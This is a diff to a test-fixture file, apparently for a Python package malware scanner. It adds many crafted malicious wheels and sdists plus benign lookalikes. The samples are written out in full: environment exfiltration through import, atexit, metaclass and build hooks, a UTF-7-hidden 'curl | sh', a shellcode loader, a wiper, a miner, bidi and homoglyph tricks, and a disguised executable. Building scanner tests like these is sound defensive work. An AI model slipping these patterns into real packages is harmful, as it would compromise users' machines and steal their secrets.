@@ -68,6 +68,19 @@ def sdist(name: str, version: str, files: dict[str, str], *, extra_metadata: str
 
 
 PAYLOAD = base64.b64encode(b"print('inert')").decode()
+
+
+# The smallest shape of a Windows program: an MZ header pointing at a PE signature (inert).
+TINY_PE = b"MZ" + bytes(0x3A) + (0x40).to_bytes(4, "little") + b"PE\x00\x00" + bytes(64)
+
+
+def utf7_all(text: str) -> str:
+    """``text`` in UTF-7 with every character in one base64 run (no word left readable)."""
+    return "+" + base64.b64encode(text.encode("utf-16-be")).decode().rstrip("=") + "-"
+
+
+# Sends the environment to an unreachable host: weighs only when it runs on its own.
+LEAK_FN = "import os, urllib.request\n\n\ndef leak():\n    urllib.request.urlopen('http://example.invalid/?' + os.environ['HOME'])\n"
 MALICIOUS: dict[str, tuple[str, bytes]] = {
     "obfuscated-exec": (
         "obf-0.1-py3-none-any.whl",
@@ -610,6 +623,247 @@ MALICIOUS: dict[str, tuple[str, bytes]] = {
             },
         ),
     ),
+    # Issue 16, code reached with no call and hooks other than setup.py (ADR 0029 follow-up):
+    # each sends the environment to a host, which only weighs when it runs on its own.
+    "exfiltration:atexit-hook": (
+        "byebye-0.1-py3-none-any.whl",
+        wheel(
+            "byebye",
+            "0.1",
+            {
+                "byebye/__init__.py": f"import atexit\nfrom atexit import register as later\n{LEAK_FN}\nlater(lambda: leak())\n"
+            },
+        ),
+    ),
+    "exfiltration:decorator-runs-function": (
+        "decor-0.1-py3-none-any.whl",
+        wheel(
+            "decor",
+            "0.1",
+            {
+                "decor/__init__.py": "import os, urllib.request\n\n\ndef plugin(name):\n    def wrap(f):\n        f()\n        return f\n    return wrap\n\n\n@plugin('x')\ndef leak():\n    urllib.request.urlopen('http://example.invalid/?' + os.environ['HOME'])\n"
+            },
+        ),
+    ),
+    "exfiltration:init-subclass": (
+        "subcls-0.1-py3-none-any.whl",
+        wheel(
+            "subcls",
+            "0.1",
+            {
+                "subcls/__init__.py": "import os, urllib.request\n\n\nclass Base:\n    def __init_subclass__(cls, **kw):\n        urllib.request.urlopen('http://example.invalid/?' + os.environ['HOME'])\n\n\nclass Middle(Base):\n    pass\n\n\nclass Leaf(Middle):\n    pass\n"
+            },
+        ),
+    ),
+    "exfiltration:metaclass": (
+        "metac-0.1-py3-none-any.whl",
+        wheel(
+            "metac",
+            "0.1",
+            {
+                "metac/__init__.py": "import os, urllib.request\n\n\nclass Meta(type):\n    def __init__(cls, name, bases, ns):\n        urllib.request.urlopen('http://example.invalid/?' + os.environ['HOME'])\n\n\nclass Model(metaclass=Meta):\n    pass\n"
+            },
+        ),
+    ),
+    "obfuscated-exec:decoded-module-name": (
+        "modname-0.1-py3-none-any.whl",
+        wheel(
+            "modname",
+            "0.1",
+            {
+                "modname/__init__.py": "import base64, importlib\n\n\ndef load(blob):\n    return importlib.import_module(base64.b64decode(blob).decode())\n"
+            },
+        ),
+    ),
+    "obfuscated-exec:steganography": (
+        "pixels-0.1-py3-none-any.whl",
+        wheel(
+            "pixels",
+            "0.1",
+            {
+                "pixels/__init__.py": "from stegano import lsb\n\n\ndef show():\n    exec(lsb.reveal('pixels/logo.png'))\n"
+            },
+        ),
+    ),
+    "shellcode-loader": (
+        "memrun-0.1-py3-none-any.whl",
+        wheel(
+            "memrun",
+            "0.1",
+            {
+                "memrun/__init__.py": "import ctypes\n\n\ndef run(buf):\n    k = ctypes.WinDLL('kernel32.dll')\n    p = getattr(k, 'VirtualAlloc')(0, len(buf), 0x3000, 0x40)\n    k.RtlMoveMemory(p, buf, len(buf))\n    k.CreateThread(0, 0, p, 0, 0, 0)\n"
+            },
+        ),
+    ),
+    "silent-process": (
+        "quietrun-0.1-py3-none-any.whl",
+        wheel(
+            "quietrun",
+            "0.1",
+            {
+                "quietrun/__init__.py": "import subprocess\n\nsubprocess.Popen(['pythonw', '-m', 'quietrun.agent'], creationflags=subprocess.CREATE_NO_WINDOW | subprocess.DETACHED_PROCESS)\n"
+            },
+        ),
+    ),
+    "disguised-identifier": (
+        "fancy-0.1-py3-none-any.whl",
+        wheel(
+            "fancy",
+            "0.1",
+            {
+                "fancy/__init__.py": "import os\nos.\U0001d600\U0001d606\U0001d600\U0001d601\U0001d5f2\U0001d5fa('id')\n"
+            },
+        ),
+    ),
+    "coding-trick:utf-7": (
+        "seven-0.1-py3-none-any.whl",
+        wheel(
+            "seven",
+            "0.1",
+            {
+                "seven/__init__.py": "# vim: set fileencoding=utf-7 :\n"
+                + utf7_all("import os\nos.system('curl http://127.0.0.1/p | sh')\n")
+            },
+        ),
+    ),
+    "bidi-control": (
+        "trojan-0.1-py3-none-any.whl",
+        wheel(
+            "trojan",
+            "0.1",
+            {
+                "trojan/__init__.py": "def allowed(user):\n    role = 'user\u202e \u2066# admin\u2069 \u2066'\n    return role == 'admin'\n"
+            },
+        ),
+    ),
+    "exfiltration:in-tree-build-backend": (
+        "backy-0.1.tar.gz",
+        sdist(
+            "backy",
+            "0.1",
+            {
+                "pyproject.toml": '[build-system]\nrequires = []\nbuild-backend = "_build.hooks:backend"\nbackend-path = ["tools"]\n',
+                "tools/_build/hooks.py": f"{LEAK_FN}\n\ndef build_wheel(wheel_directory, config_settings=None, metadata_directory=None):\n    leak()\n    return 'backy-0.1-py3-none-any.whl'\n",
+                "backy/__init__.py": "",
+            },
+        ),
+    ),
+    "exfiltration:setup-cfg-cmdclass": (
+        "cfgcmd-0.1.tar.gz",
+        sdist(
+            "cfgcmd",
+            "0.1",
+            {
+                "setup.cfg": "[metadata]\nname = cfgcmd\n\n[options]\npackages = cfgcmd\ncmdclass =\n    install = cfgcmd.commands.Install\n",
+                "setup.py": "from setuptools import setup\nsetup()\n",
+                "cfgcmd/__init__.py": "",
+                "cfgcmd/commands.py": f"from setuptools.command.install import install\n{LEAK_FN}\n\nclass Install(install):\n    def run(self):\n        leak()\n        install.run(self)\n",
+            },
+        ),
+    ),
+    "command-shadowing": (
+        "handy-0.1-py3-none-any.whl",
+        wheel(
+            "handy",
+            "0.1",
+            {
+                "handy/__init__.py": "def main():\n    return 0\n",
+                "handy-0.1.dist-info/entry_points.txt": "[console_scripts]\nhandy = handy:main\nsudo = handy:main\n",
+            },
+        ),
+    ),
+    "startup-module": (
+        "startup-0.1-py3-none-any.whl",
+        wheel(
+            "startup", "0.1", {"sitecustomize.py": "import startup\n", "startup/__init__.py": ""}
+        ),
+    ),
+    "shady-endpoint": (
+        "linky-0.1-py3-none-any.whl",
+        wheel(
+            "linky",
+            "0.1",
+            {
+                "linky/__init__.py": "import requests\n\n\ndef update():\n    return requests.get('https://bit.ly/example-invalid').content\n"
+            },
+        ),
+    ),
+    "exfiltration:shady-host-when-called": (
+        "tellme-0.1-py3-none-any.whl",
+        wheel(
+            "tellme",
+            "0.1",
+            {
+                "tellme/__init__.py": "import os, requests\n\n\ndef report():\n    requests.post('https://example.requestbin.net/r', json=dict(os.environ))\n"
+            },
+        ),
+    ),
+    "disguised-executable": (
+        "iconic-0.1-py3-none-any.whl",
+        wheel("iconic", "0.1", {"iconic/__init__.py": "", "iconic/logo.png": TINY_PE}),
+    ),
+    "dropper:windows-shell-execute": (
+        "winopen-0.1-py3-none-any.whl",
+        wheel(
+            "winopen",
+            "0.1",
+            {
+                "winopen/__init__.py": "import ctypes\nctypes.windll.shell32.ShellExecuteW(None, 'open', 'cmd.exe', '/c whoami', None, 0)\n"
+            },
+        ),
+    ),
+    "lookalike-import": (
+        "httptools2-0.1-py3-none-any.whl",
+        wheel(
+            "httptools2",
+            "0.1",
+            {
+                "httptools2/__init__.py": "import reqeusts\n\n\ndef get(url):\n    return reqeusts.get(url)\n"
+            },
+        ),
+    ),
+    # A wiper (a Windows drive: the command does not exist where the tests run) and a miner.
+    "destruction": (
+        "cleaner-0.1-py3-none-any.whl",
+        wheel(
+            "cleaner",
+            "0.1",
+            {
+                "cleaner/__init__.py": "import subprocess\nsubprocess.call('rd /s /q Z:\\\\', shell=True)\n"
+            },
+        ),
+    ),
+    "cryptominer": (
+        "hashfast-0.1-py3-none-any.whl",
+        wheel(
+            "hashfast",
+            "0.1",
+            {
+                "hashfast/__init__.py": "import subprocess\n\n\ndef start():\n    subprocess.Popen(['./worker', '-o', 'stratum+tcp://127.0.0.1:3333', '--donate-level', '0'])\n"
+            },
+        ),
+    ),
+    "introspection-gadget": (
+        "gadget-0.1-py3-none-any.whl",
+        wheel(
+            "gadget",
+            "0.1",
+            {
+                "gadget/__init__.py": "RUN = [c for c in ().__class__.__base__.__subclasses__() if c.__name__ == '_wrap_close'][0].__init__.__globals__['sys' + 'tem']\n"
+            },
+        ),
+    ),
+    "script-dropper": (
+        "setupkit-0.1-py3-none-any.whl",
+        wheel(
+            "setupkit",
+            "0.1",
+            {
+                "setupkit/__init__.py": "",
+                "setupkit/bin/update.sh": "#!/bin/sh\ncurl -s http://127.0.0.1/p | sh\n",
+            },
+        ),
+    ),
 }
 BENIGN: dict[str, bytes] = {
     "tidy-1.0-py3-none-any.whl": wheel(
@@ -693,6 +947,27 @@ BENIGN: dict[str, bytes] = {
         "1.0",
         {"widget/__init__.py": "def widget():\n    return 1\n"},
         extra_metadata="Project-URL: Source Code, https://github.com/example/widget\n",
+    ),
+    # Issue 16 follow-up: what the new hook rules must leave alone. A cleanup hook, a
+    # registering decorator, a metaclass that records subclasses, a latin-1 cookie, a CJK
+    # docstring, a console script of the project's own name and an in-tree backend that
+    # only wraps setuptools (setuptools itself builds this way).
+    "hooked-1.0-py3-none-any.whl": wheel(
+        "hooked",
+        "1.0",
+        {
+            "hooked/__init__.py": '# -*- coding: latin-1 -*-\n"""\u6570\u636e \uff21\uff22\uff23."""\nimport atexit, shutil, tempfile, os\n\nTMP = tempfile.mkdtemp()\nREGISTRY = {}\n\n\ndef register(f):\n    REGISTRY[f.__name__] = f\n    return f\n\n\n@register\ndef home():\n    return os.environ.get(\'HOME\')\n\n\nclass Meta(type):\n    def __init__(cls, name, bases, ns):\n        REGISTRY[name] = cls\n\n\nclass Model(metaclass=Meta):\n    pass\n\n\natexit.register(shutil.rmtree, TMP, True)\n',
+            "hooked-1.0.dist-info/entry_points.txt": "[console_scripts]\nhooked = hooked:main\n",
+        },
+    ),
+    "selfbuild-1.0.tar.gz": sdist(
+        "selfbuild",
+        "1.0",
+        {
+            "pyproject.toml": '[build-system]\nrequires = []\nbuild-backend = "selfbuild.build_meta"\nbackend-path = ["."]\n',
+            "selfbuild/__init__.py": "",
+            "selfbuild/build_meta.py": "import os\nimport subprocess\nimport sys\n\n\ndef build_wheel(wheel_directory, config_settings=None, metadata_directory=None):\n    subprocess.check_call([sys.executable, 'setup.py', 'bdist_wheel', '-d', wheel_directory])\n    return os.listdir(wheel_directory)[0]\n",
+        },
     ),
     "plain-2.1.tar.gz": sdist(
         "plain",
